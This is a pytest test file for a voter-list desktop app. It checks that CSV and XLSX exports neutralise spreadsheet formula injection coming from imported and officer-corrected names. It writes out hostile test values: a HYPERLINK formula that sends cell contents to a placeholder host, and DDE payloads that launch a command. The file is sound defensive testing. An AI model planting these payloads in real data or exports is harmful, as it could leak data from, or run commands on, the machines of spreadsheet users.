"""Text that a spreadsheet would run as a formula leaves the desk only as text: a Sidalih list
with hostile names and an officer's hostile correction, imported into a real store, exported as
CSV and XLSX through the coklit exports and read back."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import re
import zipfile

import pytest
from openpyxl import load_workbook

from desktop_app.reports.coklit_exports import ReportKind, export_report
from desktop_app.reports.tables import voter_list_table
from desktop_app.reports.writers import write_csv, write_xlsx
from desktop_app.store.sidalih_import import import_sidalih_file
from desktop_app.store.voter_import import load_regions
from desktop_app.store.voter_rows import row_to_record
from desktop_app.store.voter_service import VoterService
from desktop_app.synthetic import demo_regions_path, generate_voters, load_region_rows
from lapang_core.formats.sidalih import dumps_sidalih

ELECTION = dt.date(2029, 2, 14)
DESA = "14.01.01.1011"
TPS = f"{DESA}.001"
NOW = dt.datetime(2029, 1, 20, 9, 30)
HYPERLINK = '=HYPERLINK("http://x/?"&B9,"Klik")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
# What each hostile value arrives as in the store (the Sidalih import trims spaces and tabs).
IMPORTED = {"nama": HYPERLINK, "alamat": DDE, "tempat_lahir": "-2+3+cmd|' /C calc'!A0"}
TYPED = {"nama": "+62 HYPERLINK", "alamat": "-1+1"}  # the officer's correction (ubah) of it
VOTERS = 12  # all in TPS 001
ERROR_NAME = "#N/A"  # openpyxl would make this an error cell, not a name


@pytest.fixture()
def hostile(store, tmp_path):
    """A TPS whose Sidalih list carries formula text, one voter corrected to more of it."""
    store.set_election_date(ELECTION)
    regions = [r for r in load_region_rows(demo_regions_path()) if DESA.startswith(r[0])]
    load_regions(store, regions)
    records = list(
        generate_voters(regions, VOTERS, seed=5, election_date=ELECTION, tps_size=(40, 40))
    )
    records[0] = dataclasses.replace(records[0], **IMPORTED)
    records[1] = dataclasses.replace(records[1], nama=ERROR_NAME)
    records[2] = dataclasses.replace(records[2], nama=HYPERLINK)  # left as imported
    listing = tmp_path / "sidalih.csv"
    listing.write_text(dumps_sidalih(records), encoding="utf-8", newline="")
    assert not import_sidalih_file(store, listing).errors
    corrected = store.db.execute(
        "SELECT id FROM voters WHERE nik = ?", [records[0].nik]
    ).fetchone()[0]
    VoterService(store).ubah(corrected, TYPED)
    return store


# The voter list shows the values now; the change list what they were (semula) and became.
HOSTILE = {
    ReportKind.VOTER_LIST: {*TYPED.values(), IMPORTED["tempat_lahir"], HYPERLINK},
    ReportKind.CHANGES: {IMPORTED["nama"], IMPORTED["alamat"], *TYPED.values()},
}


def _csv_cells(path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _xlsx_cells(path):
    return [c for sheet in load_workbook(path) for row in sheet.iter_rows() for c in row]


def _formula_tags(path) -> list[str]:
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        return [tag for n in sheets for tag in re.findall(r"<f[ >]", book.read(n).decode())]


@pytest.mark.parametrize("kind", [ReportKind.VOTER_LIST, ReportKind.CHANGES])
def test_csv_export_quotes_every_cell_that_would_be_a_formula(hostile, tmp_path, kind):
    path = tmp_path / f"{kind.value}.csv"
    export_report(hostile, kind, TPS, path, now=NOW)
    cells = _csv_cells(path)
    assert not HOSTILE[kind] & set(cells)
    assert {"'" + v for v in HOSTILE[kind]} <= set(cells)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("kind", [ReportKind.VOTER_LIST, ReportKind.CHANGES])
def test_xlsx_export_writes_text_as_string_cells_never_formulas(hostile, tmp_path, kind):
    path = tmp_path / f"{kind.value}.xlsx"
    export_report(hostile, kind, TPS, path, now=NOW)
    assert _formula_tags(path) == []
    cells = [c for c in _xlsx_cells(path) if c.value is not None]
    by_value = {c.value: c for c in cells}
    assert not HOSTILE[kind] & set(by_value)
    assert {"'" + v for v in HOSTILE[kind]} <= set(by_value)
    assert {c.data_type for c in cells} <= {"s", "n"}
    texts = [c.value for c in cells if c.data_type == "s"]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    if kind is ReportKind.VOTER_LIST:
        assert by_value[ERROR_NAME].data_type == "s"  # a name, not Excel's error value
        numbers = [c for c in cells if c.column == 1 and c.data_type == "n"]
        assert [c.value for c in numbers] == list(range(1, VOTERS + 1))  # row numbers stay numbers


def test_recap_counts_stay_numbers_in_xlsx(hostile, tmp_path):
    path = tmp_path / "rekap.xlsx"
    export_report(hostile, ReportKind.RECAP, DESA, path, now=NOW)
    sheet = load_workbook(path).worksheets[0]
    received = next(r for r in sheet.iter_rows() if r[0].value == "Pemilih diterima (daftar awal)")
    assert [c.data_type for c in received] == ["s", "n", "n", "n"]
    assert received[3].value == VOTERS


def test_table_writers_neutralise_too(hostile, tmp_path):
    cursor = hostile.db.execute("SELECT * FROM voters WHERE tps_id = ? ORDER BY pk", [TPS])
    names = [d[0] for d in cursor.description]
    voters = [row_to_record(dict(zip(names, row, strict=True))) for row in cursor]
    table = voter_list_table("Daftar Pemilih", voters)
    write_csv(table, tmp_path / "dpt.csv")
    assert "'" + HYPERLINK in _csv_cells(tmp_path / "dpt.csv")
    write_xlsx(table, tmp_path / "dpt.xlsx")
    assert _formula_tags(tmp_path / "dpt.xlsx") == []
    cell = next(c for c in _xlsx_cells(tmp_path / "dpt.xlsx") if c.value == "'" + HYPERLINK)
    assert cell.data_type == "s"
